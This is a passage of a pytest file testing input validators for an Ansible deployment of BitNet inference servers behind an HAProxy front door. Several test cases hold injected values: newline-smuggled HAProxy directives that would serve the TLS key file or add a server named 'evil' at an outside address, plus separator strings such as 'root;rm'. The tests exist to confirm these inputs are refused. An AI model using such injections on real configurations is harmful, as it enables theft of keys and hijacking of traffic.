     "bitnet_models[0].extra_args: --api-key is set by the role; set bitnet_server_api_key instead"),
    ({"models": [GOOD_MODEL, {**GOOD_MODEL, "port": 8081}]}, "bitnet_models: two models share the name tiny"),
    ({"models": [GOOD_MODEL, {**GOOD_MODEL, "name": "other"}]}, "bitnet_models: two models share the port 8080"),
    ({"models": ["tiny"]}, 'bitnet_models[0] must be a mapping, got "tiny"'),
])
def test_bitnet_input_problems_name_the_input(changed, problem):
    assert bitnet_input_problems(bitnet_inputs(**changed), BITNET_PROFILES) == [problem]


def test_bitnet_input_problems_come_all_at_once():
    problems = bitnet_input_problems(bitnet_inputs(version="main", user="root", models=[{"name": "m", "url": "u", "port": 1}]),
                                     BITNET_PROFILES)
    assert [p.split(" ")[0] for p in problems] == ["bitnet_version", "bitnet_user", "bitnet_models[0]", "bitnet_models[0]"]
    assert bitnet_input_problems(bitnet_inputs(models=[{"name": "m", "url": "u", "port": 8080}], model_checksum_required=False),
                                 BITNET_PROFILES) == []


def test_bitnet_input_problems_read_the_venv_lock(tmp_path):
    lock = tmp_path / "requirements.txt"
    lock.write_text("numpy==2.4.6\n")
    assert bitnet_input_problems(bitnet_inputs(venv_requirements=str(lock)), BITNET_PROFILES) == [
        f"bitnet_venv_requirements ({lock}) must be the absolute path of a hash lock on the controller, every requirement"
        " pinned with == and hashed (uv pip compile --generate-hashes): line 1: numpy==2.4.6 has no --hash"]
    lock.write_text("numpy==2.4.6 --hash=sha256:" + "0" * 64 + "\n")
    assert bitnet_input_problems(bitnet_inputs(venv_requirements=str(lock)), BITNET_PROFILES) == []


def test_runbook_hosts_are_fleet_hosts_over_ssh():
    hostvars = {"a": {}, "b": {"ansible_connection": "ssh"}, "me": {"ansible_connection": "local"}, "localhost": {}}
    hosts = ["a", "b", "me"]
    assert runbook_host_problems("a,b", hosts, hostvars) == [] and runbook_host_problems(["b"], hosts, hostvars) == []
    assert runbook_host_problems("localhost", hosts, hostvars) == ["host: localhost is not a host of the inventory (a, b, me)"]
    assert runbook_host_problems("a,me", hosts, hostvars) == [
        "host: me is reached by connection local, not SSH: a runbook changes hosts of the fleet, never the machine it runs on"]
    assert runbook_host_problems("a,", hosts, hostvars) == runbook_host_problems("", hosts, hostvars) == [
        "give host=NAME[,NAME...], hosts of the inventory (a, b, me)"]


def test_a_rolling_play_keeps_a_serving_host_out_of_each_batch():
    # A first run (nothing serves): all at once; a live fleet: the operator's batch.
    assert rolling_serial([False, False, False], 1) == 3 and rolling_serial([], 1) == 1
    assert rolling_serial(["release-a", "release-b", ""], 1) == 1 and rolling_serial([True, True, True], "2") == 2
    assert rolling_serial([True], 5) == 5, "a single serving host cannot be kept up by any batch"
    with pytest.raises(AnsibleFilterError, match=r"^bitnet_rolling_batch 3 would change all 3 serving hosts at once .* at most 2$"):
        rolling_serial([True, True, True], 3, "bitnet_rolling_batch")
    for wrong in (0, -1, "one", None):
        with pytest.raises(AnsibleFilterError, match=r"^batch must be a whole number of hosts, at least 1, got "):
            rolling_serial([True, True], wrong)


def test_interface_names():
    assert all(interface_name(name) for name in ("wg0", "wg-prod-mesh-01", "eth0.100", "a" * 15))
    assert not any(interface_name(name) for name in ("wg-prod-mesh-001", "", "wg 0", "wg/0", "wg:0", ".", "..", None, 0))


PRIVATE = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "127.0.0.0/8", "::1/128", "fc00::/7"]
FRONTDOOR_DEFAULTS = yaml.safe_load((ROOT / "roles" / "frontdoor" / "defaults" / "main.yml").read_text())


def frontdoor_inputs(**changed):
    names = ("port", "stats_port", "allow_from", "tls_certificate", "api_keys", "rate_limit", "slots", "threshold",
             "queue_timeout", "server_timeout", "burst", "burst_endpoint", "burst_api_key", "burst_ca_file")
    inputs = {f"frontdoor_{name}": FRONTDOOR_DEFAULTS[f"frontdoor_{name}"] for name in names}
    return {**inputs, "frontdoor_bind": "10.213.1.11", **{f"frontdoor_{k}": v for k, v in changed.items()}}


def test_front_door_defaults_and_good_values_pass(tmp_path):
    pem = tmp_path / "fd.pem"
    pem.write_text("x")
    assert frontdoor_input_problems(frontdoor_inputs(), PRIVATE) == []
    assert frontdoor_input_problems(frontdoor_inputs(
        bind="203.0.113.7", tls_certificate=str(pem), api_keys=["k" * 16], allow_from=["10.0.0.0/8", "192.0.2.7", "fd00::/8"],
        slots="4", threshold=6, burst=True, burst_endpoint="https://burst.example:30001", burst_api_key="b" * 20), PRIVATE) == []
    assert frontdoor_input_problems(frontdoor_inputs(
        burst=True, burst_endpoint="http://10.1.2.3:8080", burst_api_key="b" * 20), PRIVATE) == []


@pytest.mark.parametrize("changed,problem", [
    ({"port": 0}, "frontdoor_port and frontdoor_stats_port must be two ports 1-65535, got 0 and 8404"),
    ({"stats_port": 8000}, "frontdoor_port and frontdoor_stats_port must be two ports 1-65535, got 8000 and 8000"),
    ({"bind": "0.0.0.0"}, 'frontdoor_bind must be one address of the host (not 0.0.0.0 or ::), got "0.0.0.0"'),
    ({"bind": ""}, 'frontdoor_bind must be one address of the host (not 0.0.0.0 or ::), got ""'),
    ({"allow_from": ["10.0.0.0/8", "10.0.0.0/33", "office"]}, "frontdoor_allow_from must be addresses or networks, not: ['10.0.0.0/33', 'office']"),
    ({"bind": "203.0.113.7"}, "frontdoor_bind 203.0.113.7 is a public address: set frontdoor_tls_certificate (a PEM file) and frontdoor_api_keys"),
    ({"api_keys": ["short"]}, "frontdoor_api_keys must be 16 or more characters of A-Z a-z 0-9 . _ ~ + / = - each"),
    ({"api_keys": ["k" * 16 + "\n"]}, "frontdoor_api_keys must be 16 or more characters of A-Z a-z 0-9 . _ ~ + / = - each"),
    ({"rate_limit": -1}, "frontdoor_rate_limit must be 0 (none) or more, got -1"),
    ({"slots": 0}, "frontdoor_slots must be unset or at least 1, got 0"),
    ({"threshold": "x"}, "frontdoor_threshold must be unset or at least 1, got x"),
    ({"server_timeout": 0}, "frontdoor_queue_timeout and frontdoor_server_timeout must be at least 1 s, got 30 and 0"),
    ({"burst": True, "burst_endpoint": "https://b.example:1"},
     "frontdoor_burst_api_key is empty: the burst replicas ask every request for their key (the serve role's API key)"),
    ({"burst": True, "burst_api_key": "b" * 20},
     'frontdoor_burst_endpoint must be https://HOST:PORT, or http://ADDRESS:PORT on a private address, got ""'),
    ({"burst": True, "burst_api_key": "b" * 20, "burst_endpoint": "http://198.51.100.9:30001"},
     'got "http://198.51.100.9:30001" (a public endpoint needs TLS)'),
    ({"burst": True, "burst_api_key": "b" * 20, "burst_endpoint": "https://b.example"}, 'got "https://b.example"'),
    ({"burst": True, "burst_api_key": "b" * 20, "burst_endpoint": "https://b.example:99999"}, 'got "https://b.example:99999"'),
    ({"tls_certificate": "/nonexistent/fd.pem"}, "/nonexistent/fd.pem does not exist on the controller"),
])
def test_front_door_input_problems_name_the_variable(changed, problem):
    problems = frontdoor_input_problems(frontdoor_inputs(**changed), PRIVATE)
    assert len(problems) == 1 and problem in problems[0], problems


def test_front_door_servers_from_facts():
    facts = {"b": {"bind": "10.100.0.2", "auth": True, "models": [{"name": "m", "port": 8080, "parallel": 4}]},
             "a": {"bind": "fd00::1", "models": [{"name": "m", "port": 8081, "parallel": 2}]},
             "c": {}, "d": {"bind": "10.100.0.4", "models": [{"name": "other", "port": 8080}]}}
    assert frontdoor_servers(facts, "m") == [{"name": "a", "address": "fd00::1", "port": 8081, "slots": 2, "auth": False},
                                            {"name": "b", "address": "10.100.0.2", "port": 8080, "slots": 4, "auth": True}]
    assert [s["slots"] for s in frontdoor_servers(facts, "m", 6)] == [6, 6]


@pytest.mark.parametrize("fact,problem", [
    # A newline and HAProxy directives after the address (finding 2 of the trust review).
    ({"bind": "10.100.0.2:8080\n    http-request return status 200 file /etc/haproxy/frontdoor.pem\n#"}, "is not an IP address"),
    ({"bind": "10.100.0.9"}, "bind 10.100.0.9 is not 10.100.0.2, where the controller knows"),
    ({"bind": "10.100.0.2", "port": "8080\n    server evil 198.51.100.6:80"}, "must be numbers"),
    ({"bind": "10.100.0.2", "port": 0}, "port 0 must be 1-65535"),
], ids=["newline-in-bind", "another-address", "newline-in-port", "port-zero"])
def test_a_base_hosts_doctored_fact_is_refused_naming_it(fact, problem):
    facts = {"a": {"bind": "10.100.0.1", "models": [{"name": "m", "port": 8080}]},
             "b": {"bind": fact["bind"], "models": [{"name": "m", "port": fact.get("port", 8080)}]}}
    with pytest.raises(AnsibleFilterError, match=f"the bitnet fact of b is refused.*{re.escape(problem)}"):
        frontdoor_servers(facts, "m", binds={"a": "10.100.0.1", "b": "10.100.0.2"})


def test_the_controller_knows_where_each_base_host_listens():
    hostvars = {"a": {"bitnet_server_bind": "10.0.0.5", "mesh_address": "10.100.0.1"},
                "b": {"mesh_address": "10.100.0.2", "hetzner_private_ipv4": "10.0.0.6"},
                "c": {"hetzner_private_ipv4": "10.0.0.7"}, "d": {}}
    assert frontdoor_server_binds(hostvars, ["a", "b", "c", "d"]) == {"a": "10.0.0.5", "b": "10.100.0.2", "c": "10.0.0.7"}
    # An IPv6 address matches however the host writes it.
    facts = {"a": {"bind": "fd00:0::1", "auth": "yes", "models": [{"name": "m", "port": 8080}]}}
    assert frontdoor_servers(facts, "m", binds={"a": "fd00::1"}) == [
        {"name": "a", "address": "fd00::1", "port": 8080, "slots": 1, "auth": False}]


HAPROXY_CSV = """# pxname,svname,qcur,qmax,scur,smax,slim,stot,bin,bout,dreq,dresp,ereq,econ,eresp,wretr,wredis,status
bitnet,FRONTEND,,,0,9,,400,,,,,,,,,,OPEN
base,h1,0,0,0,4,4,200,,,,,,,,,,UP
base,BACKEND,0,0,0,12,,300,,,,,,,,,,UP
burst,BACKEND,0,0,0,8,,100,,,,,,,,,,UP
"""


def test_status_splits_requests_and_prices_the_split():
    host = {"reachable": True, "product": "cx22", "health": [200],
            "bitnet": {"models": [{"name": "m", "tg": 100.0}]}}
    report = fleet_status({"h1": host}, {"cx22": 0.36}, None, {"edge": HAPROXY_CSV}, {"status": "READY", "endpoint": "e",
                          "replicas": [{"replica_id": 1, "infra": "AWS (us-east-1)", "is_spot": True, "status": "READY"}]}, 1.8)
    assert report["split"] == {"base": 300, "burst": 100, "burst_share": 0.25}
    totals = report["totals"]
    # Base 0.36/h at 100 tok/s = 1.0 per 1M; burst 1.8/h at the same rate = 5.0; 3:1 split = 2.0.
    assert (totals["cost_per_1m_base_only"], totals["cost_per_1m_burst"], totals["cost_per_1m_at_split"]) == (1.0, 5.0, 2.0)
    assert "replica 1: AWS (us-east-1) spot READY" in report["table"] and "(25.0% burst)" in report["table"]
    alone = fleet_status({"h1": host}, {"cx22": 0.36})
    assert alone["split"]["burst_share"] == 0.0 and alone["totals"]["cost_per_1m_at_split"] == 1.0 and alone["burst"] is None


def test_the_shipped_skypilot_lock_is_pinned_and_hashed():
    for lock in (ROOT / "roles" / "skypilot_node_pool" / "files").glob("skypilot-*.txt"):
        text = lock.read_text()
        assert pip_lock_problems(text) == [] and f"\nskypilot=={lock.stem.split('-', 1)[1]} " in text


def test_pip_lock_problems_name_each_unpinned_unhashed_or_option_line():
    digest = "--hash=sha256:" + "a" * 64
    text = (f"numpy\nrequests==2.32.0\n-r more.txt\n# a comment\nbar>=1 {digest}\n"
            f"ok==1.0 ; python_version < '3.12' \\\n    {digest} \\\n    {digest}\n    # via skypilot\n"
            "short==1 --hash=sha256:abc\n")
    assert pip_lock_problems(text) == [
        "line 1: numpy is not pinned with ==", "line 2: requests==2.32.0 has no --hash",
        "line 3: option -r (only pinned, hashed requirements)", "line 5: bar>=1 is not pinned with ==",
        "line 10: short==1 --hash=sha256:abc is not pinned with =="]


def test_network_conflicts_name_what_the_mesh_would_take_over():
    protected = {"the private network": "10.0.0.0/16", "the address Ansible reaches h1 at": "10.0.0.5",
                 "loopback": "127.0.0.0/8", "h2's name": "h2.example", "IPv6 loopback": "::1/128"}
    assert wireguard_network_conflicts("10.100.0.0/16", protected) == []
    assert wireguard_network_conflicts("10.0.0.0/8", protected) == [
        "wireguard_network 10.0.0.0/8 overlaps the private network (10.0.0.0/16): the mesh would take its traffic; "
        "choose a range none of the hosts' networks uses",
        "wireguard_network 10.0.0.0/8 overlaps the address Ansible reaches h1 at (10.0.0.5/32): the mesh would take "
        "its traffic; choose a range none of the hosts' networks uses"]


@pytest.mark.parametrize("name,ok", [
    ("deploy", True), ("_svc", True), ("bitnet-1", True), ("a" * 32, True),
    ("", False), ("1deploy", False), ("-x", False), ("Deploy", False), ("de ploy", False),
    ("a" * 33, False), ("root;rm", False), ("deploy\n", False), (None, False), (7, False),
])
def test_login_name(name, ok):
    assert login_name(name) is ok


@pytest.mark.parametrize(("rule", "bad"), [
    ({"name": "web", "port": 0}, "(got 0)"),
    ({"name": "web", "port": "http"}, "(got http)"),
    ({"name": "web", "port": 65536}, "(got 65536)"),
    ({"name": "web;drop", "port": 80}, "not valid: []"),
    ({"name": "web", "port": 80, "sources": ["10.0.0.0/8", "10.0.0.0/33", "::1", "host.example"]},
     "not valid: ['10.0.0.0/33', 'host.example']"),
])
def test_base_rule_problems_name_the_variable_rule_and_value(rule, bad):
    rules = [{"name": "ssh", "port": 22, "sources": ["192.0.2.0/24", "2001:db8::/32"]}, rule]
    [problem] = base_rule_problems(rules, "base_firewall_allow")
    assert problem.startswith(f"base_firewall_allow[1] ({rule['name']}): port must be 1-65535") and bad in problem


def test_base_rule_problems_pass_good_rules_and_none():
    assert base_rule_problems([{"name": "k3s api", "port": "6443", "sources": ["10.100.0.7"]}], "x") == []
    assert base_rule_problems(None, "x") == [] == base_rule_problems([], "x")


BASE_LAYER = {"name": "base", "count": 3, "server_type": "cx22", "locations": ["fsn1", "nbg1"], "labels": {"role": "bitnet"}}


def server(name, project="wf", layer="base"):
    return {"name": name, "labels": {"managed-by": project, "layer": layer} if project else {}}


def test_provision_wanted_names_places_and_labels_new_servers():
    wanted = provision_wanted([BASE_LAYER], "wf", [])
    assert [w["name"] for w in wanted] == ["wf-base-1", "wf-base-2", "wf-base-3"]
    assert [w["location"] for w in wanted] == ["fsn1", "nbg1", "fsn1"]
    assert wanted[0] == {"name": "wf-base-1", "layer": "base", "server_type": "cx22", "image": "debian-12",
                         "location": "fsn1", "placement_group": "wf-base-1",
                         "labels": {"role": "bitnet", "managed-by": "wf", "layer": "base"}}


def test_provision_wanted_keeps_the_lowest_and_fills_the_lowest_free():
    servers = [server("wf-base-2"), server("wf-base-5"), server("wf-base-7"), server("wf-base-1", project=None),
               server("wf-gpu-1", layer="gpu"), server("wf-base-x")]
    # wf-base-3 is a dedicated server the inventory lists. Another owner's wf-base-1 is not
    # skipped: the plan then refuses to make it (Provision | check no server of another owner ...).
    layer = {**BASE_LAYER, "count": 5}
    names = [w["name"] for w in provision_wanted([layer], "wf", servers, ["wf-base-3", "wf-base-5"])]
    assert names == ["wf-base-1", "wf-base-2", "wf-base-4", "wf-base-5", "wf-base-7"]
    assert [w["name"] for w in provision_wanted([{**BASE_LAYER, "count": 2}], "wf", servers)] == ["wf-base-2", "wf-base-5"]
    assert provision_wanted([{**BASE_LAYER, "count": 0}], "wf", servers) == []


def test_provision_wanted_fills_placement_groups_of_spread_max():
    wanted = provision_wanted([{**BASE_LAYER, "count": "5", "image": "ubuntu-24.04"}], "wf", [], spread_max=2)
    assert [w["placement_group"] for w in wanted] == ["wf-base-1", "wf-base-1", "wf-base-2", "wf-base-2", "wf-base-3"]
    assert {w["image"] for w in wanted} == {"ubuntu-24.04"}


def test_provision_too_many_deletions_per_layer():
    managed = [server(f"wf-base-{n}") for n in (1, 2, 3, 4)] + [server("wf-gpu-1", layer="gpu")]
    assert provision_too_many_deletions(managed[2:4], managed, 0.5) == []
    assert provision_too_many_deletions(managed[1:], managed, "0.5") == ["base (3 of 4)", "gpu (1 of 1)"]
    # A managed server whose layer label is gone is no way past the limit (issue 32, finding 5).
    unlabelled = server("wf-x-1") | {"labels": {"managed-by": "wf"}}
    assert provision_too_many_deletions([unlabelled], [*managed, unlabelled], 0.5) == ["servers without a layer label (1 of 1)"]
    assert provision_too_many_deletions([unlabelled], managed, 0.5) == ["servers without a layer label (1 of 1)"]


SERVE_AVX2 = {"release": "r-avx2", "os": "debian:12", "arch": "x86_64", "cpu_flags": ["avx2"],
        "models": [{"name": "tiny", "url": "https://m/tiny.gguf", "sha256": "ab", "args": []}]}
SERVE_AVX512 = {**SERVE_AVX2, "release": "r-avx512", "cpu_flags": ["avx2", "avx512f"]}


def test_serve_base_layer_takes_each_release_once_and_the_named_or_first_model():
    other = {"name": "big", "url": "https://m/big.gguf", "sha256": "cd"}
    facts = [SERVE_AVX2, {**SERVE_AVX512, "models": [other]}, SERVE_AVX2, {"models": []}]
    base = serve_base_layer(facts, "")
    assert [r["release"] for r in base["releases"]] == ["r-avx2", "r-avx512"]
    assert base["model"]["name"] == "tiny" and base["problems"] == []
    assert serve_base_layer(facts, "big")["model"] == other


@pytest.mark.parametrize(("facts", "model", "problem"), [
    ([], "", "no base host records a BitNet release: run playbooks/bitnet.yml"),
    ([{"models": [{"name": "tiny"}]}], "tiny", "no base host records a BitNet release"),
    ([SERVE_AVX2, SERVE_AVX2], "huge", 'serve_model "huge" is not served by the base layer (it serves: tiny)'),
    ([SERVE_AVX2, {**SERVE_AVX512, "os": "ubuntu:24.04"}], "", "built on debian:12 and ubuntu:24.04: a replica runs one distribution"),
    ([{**SERVE_AVX2, "models": [{"name": "tiny", "sha256": "ab"}]}], "tiny", "model tiny needs a url and a sha256 in bitnet_models"),
])
def test_serve_base_layer_names_what_stops_the_replicas(facts, model, problem):
    [found] = serve_base_layer(facts, model)["problems"]
    assert problem in found


def test_serve_shipped_releases_best_first_with_their_digests():
    results = [{"item": SERVE_AVX2, "stat": {"checksum": "1" * 64}}, {"item": SERVE_AVX512, "stat": {"checksum": "2" * 64}},
               {"item": {**SERVE_AVX2, "release": "r-generic", "cpu_flags": []}, "stat": {"checksum": "3" * 64}}]
    shipped = serve_shipped_releases(results)
    assert [r["key"] for r in shipped] == ["r-avx512", "r-avx2", "r-generic"]
    assert shipped[0] == {"arch": "x86_64", "cpu_flags": ["avx2", "avx512f"], "key": "r-avx512", "sha256": "2" * 64, "rank": 2}


LAYER_DEFAULTS = {"base_ssh_port": 22, "frontdoor_port": 8000, "frontdoor_stats_port": 8404, "base_admin_user": "deploy",
                  "bitnet_user": "bitnet"}


def test_layers_of_a_host_share_no_port_and_no_account():
    models = {"bitnet_models": [{"name": "m", "port": 8080}]}
    assert preflight_layer_problems(models, "h", ["base", "bitnet", "edge"], LAYER_DEFAULTS, pool_host=True) == []
    assert preflight_layer_problems({"base_ssh_port": 8404}, "h", ["base", "edge"], LAYER_DEFAULTS) == [
        "h: base_ssh_port 8404, frontdoor_port 8000, the front door's statistics 8404 must be different TCP ports"]
    # A host of the node pool runs k3s: its API and kubelet ports count too (issue 32, finding 10).
    assert preflight_layer_problems({"base_ssh_port": 6443}, "h", ["base"], LAYER_DEFAULTS) == []
    assert preflight_layer_problems({"base_ssh_port": 6443}, "h", ["base"], LAYER_DEFAULTS, pool_host=True) == [
        "h: base_ssh_port 6443, k3s's API 6443, k3s's kubelet 10250 must be different TCP ports"]
    assert preflight_layer_problems({"bitnet_models": [{"name": "m", "port": 10250}]}, "h", ["bitnet"], LAYER_DEFAULTS,
                                    pool_host=True)[0].startswith("h: bitnet_models m 10250, k3s's API 6443")
    assert preflight_layer_problems({"ansible_user": "ops", "bitnet_user": "ops"}, "h", ["bitnet"], LAYER_DEFAULTS) == [
        "bitnet_user (ops) must not be root, base_admin_user or ansible_user (root, deploy, ops)"]
